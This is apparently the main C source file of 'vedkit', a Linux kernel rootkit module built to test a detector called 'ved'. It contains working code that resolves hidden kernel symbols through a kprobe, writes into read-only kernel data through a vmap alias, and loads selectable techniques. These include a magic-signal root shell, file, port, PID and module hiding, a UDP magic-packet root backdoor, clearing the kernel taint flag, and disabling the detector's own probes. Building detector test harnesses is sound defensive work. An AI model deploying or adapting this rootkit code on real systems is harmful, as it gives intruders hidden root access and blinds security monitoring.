// SPDX-License-Identifier: GPL-2.0
/*
 * vedkit: ved's lab rootkit.
 *
 * Loaded by root in the exploit lab, the way an intruder who got root loads
 * one.  Each technique is selected by name in techniques= (comma list):
 *
 *   sct          patch sys_call_table[__NR_kill] (magic-signal root shell)
 *   dispatch     patch the jmp to __x64_sys_kill inside x64_sys_call()
 *   hide_module  unlink from the module list and from /sys/module
 *   ftrace_file  ftrace hook on filldir64/filldir: hide files by prefix
 *   kprobe_port  kprobe hook on tcp[46]_seq_show: hide a TCP port
 *   hide_pid     hijack /proc's iterate_shared: hide a pid from /proc
 *   nf_backdoor  netfilter hook: UDP magic packet runs a command as root
 *   ved_config   ved's own mode for a detector set to off in its memory
 *   ved_unlock   ved's own lock flag cleared in its memory
 *   ved_unprobe  ved's own kprobes disabled (or unregistered)
 *   ved_text     a ved function patched to return 0 at once
 *   clear_taint  zero the kernel's tainted_mask
 *   patch_module inline hook (jmp) in another module's function
 *   unlink_task  DKOM: a process off the task list and its pid, still running
 *   static_call  a core static call site and its trampoline retargeted to vedkit
 *   ved_static_call  ved's own cond_resched() static call sites retargeted to vedkit
 *   inline_hook  jmp over the start of a core kernel function (inline_target=)
 *   orphan_code  code copied to module-area memory that outlives vedkit (/proc/vedkit_orphan)
 *
 * See README.md for what each one does and where it works.
 */
#define pr_fmt(fmt) "vedkit: " fmt

#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/string.h>
#include <linux/vmalloc.h>
#include <asm/ibt.h>
#include <asm/set_memory.h>

#include "vedkit.h"

static char *techniques = "";
module_param(techniques, charp, 0400);
MODULE_PARM_DESC(techniques, "comma list: sct,dispatch,hide_module,ftrace_file,kprobe_port,hide_pid,nf_backdoor,clear_taint,patch_module,ved_config,ved_unlock,ved_unprobe,ved_text,unlink_task,inline_hook,static_call,ved_static_call,orphan_code");

char *vk_hide_prefix = "vedkit_";
module_param_named(hide_prefix, vk_hide_prefix, charp, 0400);
MODULE_PARM_DESC(hide_prefix, "ftrace_file: hide directory entries starting with this");

int vk_hide_pid;
module_param_named(hide_pid, vk_hide_pid, int, 0400);
MODULE_PARM_DESC(hide_pid, "hide_pid: the process to hide from /proc");

int vk_unlink_pid;
module_param_named(unlink_pid, vk_unlink_pid, int, 0400);
MODULE_PARM_DESC(unlink_pid, "unlink_task: the (single-threaded) process to unlink");

int vk_hide_port = 31337;
module_param_named(hide_port, vk_hide_port, int, 0400);
MODULE_PARM_DESC(hide_port, "kprobe_port: local TCP port to hide from /proc/net/tcp{,6}");

int vk_magic_sig = 64;
module_param_named(magic_sig, vk_magic_sig, int, 0400);
MODULE_PARM_DESC(magic_sig, "sct, dispatch: kill(any, magic_sig) makes the caller root");

int vk_nf_port = 31338;
module_param_named(nf_port, vk_nf_port, int, 0400);
MODULE_PARM_DESC(nf_port, "nf_backdoor: UDP port of the magic packet");

/*
 * Read-only views for the tests: the live value of sys_call_table[__NR_kill]
 * and the live target of the jump to the kill handler inside x64_sys_call,
 * read from kernel memory at each read (not what vedkit remembers writing).
 */
static int vk_get_sct_kill(char *buf, const struct kernel_param *kp)
{
	return sysfs_emit(buf, "%px\n", vk_sct_kill_entry());
}

static int vk_get_dispatch_kill(char *buf, const struct kernel_param *kp)
{
	return sysfs_emit(buf, "%px\n", vk_dispatch_kill_target());
}

static const struct kernel_param_ops vk_sct_kill_ops = { .get = vk_get_sct_kill };
static const struct kernel_param_ops vk_dispatch_kill_ops = { .get = vk_get_dispatch_kill };
module_param_cb(sct_kill, &vk_sct_kill_ops, NULL, 0400);
MODULE_PARM_DESC(sct_kill, "(read) live sys_call_table[__NR_kill]");
module_param_cb(dispatch_kill, &vk_dispatch_kill_ops, NULL, 0400);
MODULE_PARM_DESC(dispatch_kill, "(read) live target of x64_sys_call's jump for kill");

/*
 * kallsyms_lookup_name() is no longer exported (5.7), so rootkits find it the
 * way they do here: a kprobe resolves a symbol name to an address for us.
 */
typedef unsigned long (*vk_kln_t)(const char *name);
static vk_kln_t vk_kln;

static int vk_find_kallsyms(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long addr;
	int ret;

	ret = register_kprobe(&kp);
	if (ret)
		return ret;
	addr = (unsigned long)kp.addr;
	unregister_kprobe(&kp);
	/*
	 * With IBT, kprobes moves a probe on a function's entry past its
	 * endbr64 (or the nop that replaced it when the kernel sealed a
	 * function never called indirectly): the function starts 4 bytes
	 * earlier.
	 */
	if (is_endbr(*(u32 *)(addr - 4)))
		addr -= 4;
	vk_kln = (vk_kln_t)addr;
	if (vk_kln("kallsyms_lookup_name") != addr) {
		pr_err("kallsyms_lookup_name found at %px does not resolve itself\n",
		       (void *)addr);
		vk_kln = NULL;
		return -ENOENT;
	}
	return 0;
}

unsigned long vk_lookup(const char *name)
{
	unsigned long addr = vk_kln ? vk_kln(name) : 0;

	if (!addr)
		pr_err("symbol %s not found\n", name);
	return addr;
}

/*
 * Write a pointer into read-only kernel data (sys_call_table, a const
 * file_operations).  CR0.WP is pinned on these kernels and set_memory_rw() is
 * not exported, so do what text_poke() does for code: map the physical page a
 * second time, writable, through vmap(), and store through that alias.  The
 * protected mapping itself is never changed.
 */
int vk_write_ro_ptr(void *dst, void *val)
{
	unsigned long off = offset_in_page(dst);
	struct page *page;
	void *map;

	if (!IS_ALIGNED((unsigned long)dst, sizeof(void *)))
		return -EINVAL;
	page = pfn_to_page(PHYS_PFN(slow_virt_to_phys(dst)));
	map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!map)
		return -ENOMEM;
	WRITE_ONCE(*(void **)(map + off), val);
	vunmap(map);
	return READ_ONCE(*(void **)dst) == val ? 0 : -EIO;
}

struct vk_technique {
	const char *name;
	int (*init)(void);
	void (*exit)(void);
	bool on;
};

/*
 * In initialization order.  hide_module comes last: once unlinked, vedkit
 * cannot be unloaded, so it must not fail after that.
 */
static struct vk_technique vk_techniques[] = {
	{ "clear_taint", vk_clear_taint_init, NULL },
	{ "ved_config", vk_ved_config_init, NULL },
	{ "ved_unlock", vk_ved_unlock_init, NULL },
	{ "ved_unprobe", vk_ved_unprobe_init, NULL },
	{ "ved_text", vk_ved_text_init, NULL },
	{ "sct", vk_sct_init, vk_sct_exit },
	{ "dispatch", vk_dispatch_init, vk_dispatch_exit },
	{ "ftrace_file", vk_ftrace_file_init, vk_ftrace_file_exit },
	{ "kprobe_port", vk_kprobe_port_init, vk_kprobe_port_exit },
	{ "hide_pid", vk_hide_pid_init, vk_hide_pid_exit },
	{ "nf_backdoor", vk_nf_backdoor_init, vk_nf_backdoor_exit },
	{ "patch_module", vk_patch_module_init, vk_patch_module_exit },
	{ "unlink_task", vk_unlink_task_init, vk_unlink_task_exit },
	{ "static_call", vk_static_call_init, vk_static_call_exit },
	{ "ved_static_call", vk_ved_static_call_init, vk_ved_static_call_exit },
	{ "inline_hook", vk_inline_hook_init, vk_inline_hook_exit },
	{ "orphan_code", vk_orphan_code_init, NULL },
	{ "hide_module", vk_hide_module_init, NULL },
};

static void vk_stop_all(void)
{
	int i;

	for (i = ARRAY_SIZE(vk_techniques) - 1; i >= 0; i--) {
		struct vk_technique *t = &vk_techniques[i];

		if (t->on && t->exit)
			t->exit();
		t->on = false;
	}
}

static int vk_select(void)
{
	char *list, *cur, *name;
	int i, ret = 0;

	list = kstrdup(techniques, GFP_KERNEL);
	if (!list)
		return -ENOMEM;
	cur = list;
	while ((name = strsep(&cur, ",")) != NULL) {
		name = strim(name);
		if (!*name || !strcmp(name, "none"))
			continue;
		for (i = 0; i < ARRAY_SIZE(vk_techniques); i++)
			if (!strcmp(name, vk_techniques[i].name))
				break;
		if (i == ARRAY_SIZE(vk_techniques)) {
			pr_err("unknown technique '%s'\n", name);
			ret = -EINVAL;
			break;
		}
		vk_techniques[i].on = true;
	}
	kfree(list);
	return ret;
}

static int __init vk_init(void)
{
	int i, ret;

	ret = vk_find_kallsyms();
	if (ret) {
		pr_err("cannot find kallsyms_lookup_name (%d)\n", ret);
		return ret;
	}
	ret = vk_select();
	if (ret)
		return ret;
	for (i = 0; i < ARRAY_SIZE(vk_techniques); i++) {
		struct vk_technique *t = &vk_techniques[i];

		if (!t->on)
			continue;
		t->on = false;
		ret = t->init();
		if (ret) {
			pr_err("technique %s failed (%d)\n", t->name, ret);
			vk_stop_all();
			return ret;
		}
		t->on = true;
		pr_info("technique %s active\n", t->name);
	}
	return 0;
}

static void __exit vk_exit(void)
{
	vk_stop_all();
	pr_info("unloaded, hooks removed\n");
}

module_init(vk_init);
module_exit(vk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("ved lab rootkit: selectable rootkit techniques for detector tests");
